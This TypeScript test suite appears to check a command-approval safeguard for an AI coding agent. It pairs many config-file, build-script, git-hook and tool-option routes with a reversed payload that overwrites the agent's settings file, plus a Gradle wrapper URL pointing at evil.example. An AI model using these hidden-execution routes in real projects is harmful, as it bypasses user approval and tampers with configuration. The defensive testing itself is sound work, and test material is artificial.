import { bash, type Case, type Step, write } from "../case.ts";

const reversed = write("h", "nosj.sgnittes/edualc./~ > 1 ohce\n");
const script = 'eval "$(rev h)"\n';
const g = write("g", script);
const javascript =
  "require('child_process').execSync(require('fs').readFileSync('h', 'utf8').split('').reverse().join(''))\n";
const python = "import os\nos.system(open('h').read()[::-1])\n";
const ruby = "system(File.read('h').reverse)\n";
const php = "<?php system(strrev(file_get_contents('h')));\n";

type Files = Readonly<Record<string, string>>;
const filesOf = (files: Files): readonly Step[] => Object.entries(files).map(([path, text]) => write(path, text));

/** Files of the session that a program loads without a word that names them. */
const asked = (files: Files, ...commands: readonly string[]): readonly Case[] =>
  commands.map((command) => ({ expected: "ask", steps: [reversed, g, ...filesOf(files), command] }));

/** A text that one session writes, and another one runs after a command of the first. */
const ofOtherSession = (name: string, text: string, command: string): Case => ({
  name,
  expected: "ask",
  steps: [
    write("h", "nosj.sgnittes/edualc./~ > 1 ohce\n", "one"),
    write("k.sh", text, "one"),
    bash(command, "one"),
  ].concat(bash("sh k.sh", "two")),
});

const manifest = (fields: object): Files => ({
  "package.json": JSON.stringify({ name: "k", version: "1.0.0", ...fields }),
});
const repository = { "d/HEAD": "ref: refs/heads/main\n", "d/objects/x": "", "d/refs/x": "" };

export const projectFiles: readonly Case[] = [
  // Settings with the name of a program name the code that it loads.
  ...asked({ ".prettierrc": "plugins: [./x.js]\n", "x.js": javascript }, "npx prettier --check ."),
  ...asked({ "jest.config.json": '{"setupFiles":["./x.js"]}', "x.js": javascript }, "npx jest"),
  ...asked({ ".mocharc.yml": "require: ./x.js\n", "x.js": javascript }, "npx mocha"),
  ...asked({ ".babelrc": '{"plugins":["./x.js"]}', "x.js": javascript }, "npx babel src", "npx jest"),
  ...asked({ ".postcssrc.json": '{"plugins":{"./x.js":{}}}', "x.js": javascript }, "npx vite build"),
  ...asked({ ".lintstagedrc": '{"*":"sh g"}' }, "npx lint-staged"),
  ...asked({ "nodemon.json": '{"exec":"sh g"}' }, "npx nodemon"),
  ...asked({ Jakefile: javascript }, "npx jake"),
  ...asked({ "deno.json": '{"tasks":{"x":"sh g"}}' }, "deno task x"),
  ...asked({ ".air.toml": "[build]\ncmd = 'sh g'\n" }, "air"),
  ...asked(
    { "tsconfig.json": '{"ts-node":{"require":["./x.js"]}}', "x.js": javascript },
    "npx ts-node scripts/build.js",
  ),
  ...asked({ ...manifest({ ava: { require: ["./x.js"] } }), "x.js": javascript }, "npx ava"),
  // Scripts that other programs run.
  ...asked(manifest({ scripts: { x: "sh g" } }), "npx turbo run x", "npx run-s x", "npx concurrently npm:x"),
  ...asked({ "project.json": '{"targets":{"x":{"command":"sh g"}}}' }, "npx nx run project:x"),
  ...asked({ "composer.json": '{"scripts":{"post-install-cmd":"sh g"}}' }, "composer install"),
  ...asked(manifest({ scripts: { pretest: "sh g" } }), "npm it", "npm cit", "npm install-test"),
  ...asked(manifest({ scripts: { dependencies: "sh g" } }), "npm update", "npm uninstall x", "npm install"),
  // Files that the tools of a language load.
  ...asked({ Gemfile: ruby }, "bundle install", "bundle exec rake"),
  ...asked({ "config/application.rb": ruby }, "bin/rails c"),
  ...asked({ "spec/spec_helper.rb": ruby }, "bundle exec rspec"),
  ...asked({ "config.ru": ruby }, "rackup"),
  ...asked({ "phpunit.xml": '<phpunit bootstrap="x.php"/>', "x.php": php }, "vendor/bin/phpunit"),
  ...asked({ "app.py": python }, "flask run", "fastapi dev"),
  ...asked({ "alembic/env.py": python }, "alembic upgrade head"),
  ...asked({ Pipfile: "[scripts]\nx='sh g'\n" }, "pipenv run x"),
  ...asked({ "build.zig": `const c = b.addSystemCommand(&.{ "sh", "g" });\n` }, "zig build"),
  ...asked({ "a.csproj": '<Project><Target><Exec Command="sh g"/></Target></Project>' }, "dotnet build"),
  ...asked({ "config/config.exs": 'System.cmd("sh", ["g"])\n' }, "mix test"),
  ...asked({ ".latexmkrc": "system('sh g');\n" }, "latexmk -pdf x.tex"),
  // A folder that is laid out as a repository, and hooks in another one.
  ...asked({ ...repository, "d/config": "[core]\n\tfsmonitor = sh g\n" }, "cd d && git status"),
  ...asked({ ...repository, "d/hooks/pre-commit": `#!/bin/sh\n${script}` }, "git --git-dir=d commit -m a"),
  ...asked({ "git-x": `#!/bin/sh\n${script}` }, "GIT_EXEC_PATH=. git x"),
  // Values of options and variables that no list has.
  ...asked(
    {},
    "make CC='sh g'",
    "GOCACHEPROG=./g go build",
    "go env -w CC=./g",
    "helm template a --post-renderer=./g",
    "helm --post-renderer ./g template a",
    "pandoc -F ./g a.md",
    "VIMINIT='!sh g' vim",
  ),
  // Options and settings whose names stand for a program.
  ...asked({}, "rg --hostname-bin ./g x", "bat --pager ./g x", "git instaweb --httpd ./g", "uv run --python ./g x"),
  ...asked({}, "scp -S ./g a h:b", "man -P ./g ls", "git difftool -x ./g", "RIPGREP_CONFIG_PATH=g rg x"),
  ...asked({}, "gh config set pager ./g", "gh alias set x '!sh g'", "git remote add x 'ext::sh g' && git fetch x"),
  ...asked(
    { "CMakePresets.json": '{"configurePresets":[{"cacheVariables":{"CMAKE_C_COMPILER":"./g"}}]}' },
    "cmake --preset x",
  ),
  ...asked({ "t.cmake": "set(CMAKE_C_COMPILER ./g)\n" }, "cmake --toolchain t.cmake ."),
  ...asked({ "gradle.properties": "org.gradle.jvmargs=-javaagent:k.jar\n" }, "gradle build"),
  ...asked({ "gradle.properties": "org.gradle.java.home=./jdk\n" }, "gradle build"),
  ...asked(
    { "gradle/wrapper/gradle-wrapper.properties": "distributionUrl=https\\://evil.example/g.zip\n" },
    "./gradlew build",
  ),
  ...asked(
    { ".mvn/extensions.xml": "<extensions><extension><groupId>k</groupId></extension></extensions>\n" },
    "mvn test",
  ),
  ...asked({ ".mvn/jvm.config": "-javaagent:k.jar\n" }, "mvn test"),
  ...asked({ "c/config.toml": "[build]\nrustc = './g'\n" }, "CARGO_HOME=c cargo build"),
  // Texts that are not read from the disk.
  ofOtherSession("longer than what is read", `${"# padding\n".repeat(25_000)}${script}`, "ls"),
  ofOtherSession("with a NUL", `${script}#\0\n`, "ls"),
  ofOtherSession("with a NUL that a program adds", script, "truncate -s +1 k.sh"),
];

const silent = (files: Files, ...commands: readonly string[]): readonly Case[] =>
  commands.map((command) => ({ expected: "silent", steps: [...filesOf(files), command] }));

const runner = "import { spawn } from 'node:child_process';\nspawn(process.argv[2], process.argv.slice(3));\n";

/** What comes near it. */
export const harmlessProjectFiles: readonly Case[] = [
  ...silent({ Gemfile: `source "https://rubygems.org"\ngem "rails", "~> 7.1"\n` }, "bundle install"),
  ...silent({ "config/routes.rb": "Rails.application.routes.draw do\n  resources :posts\nend\n" }, "bundle exec rspec"),
  ...silent({ ".prettierrc": '{"plugins":["prettier-plugin-tailwindcss"]}' }, "npx prettier --write ."),
  ...silent({ ...manifest({ bin: "src/cli.js" }), "src/cli.js": runner }, "npx eslint .", "npx prettier --check ."),
  ...silent(manifest({ scripts: { build: "tsc -p .", test: "vitest run" } }), "npx turbo run build", "npm update"),
  ...silent({ "tsconfig.json": '{"compilerOptions":{"paths":{"@/*":["./src/*"]}}}' }, "npx vitest run"),
  ...silent({ "composer.json": '{"scripts":{"test":"phpunit"}}' }, "composer install"),
  ...silent({ "phpunit.xml": '<phpunit bootstrap="vendor/autoload.php"/>' }, "vendor/bin/phpunit"),
  ...silent({ "app.py": "from flask import Flask\napp = Flask(__name__)\n" }, "flask run"),
  ...silent({ "nodemon.json": '{"watch":["src"],"exec":"ts-node src/index.ts"}' }, "npx nodemon"),
  ...silent({ "gradle.properties": "org.gradle.jvmargs=-Xmx2g\n" }, "gradle build"),
  ...silent({ "k.sh": script }, "git log --stat k.sh", "cat -n k.sh", "git diff --stat ./k.sh"),
  ...silent({ "src/w.js": javascript }, "npx eslint --fix src/w.js", "APP_ROOT=src npm test", "git config user.name k"),
  ...silent({ "ssh/config": "Host a\n  User ada\n" }, "ls ssh"),
  ...silent({ "k.sh": `${"# padding\n".repeat(25_000)}npm test\n` }, "wc -l k.sh"),
];
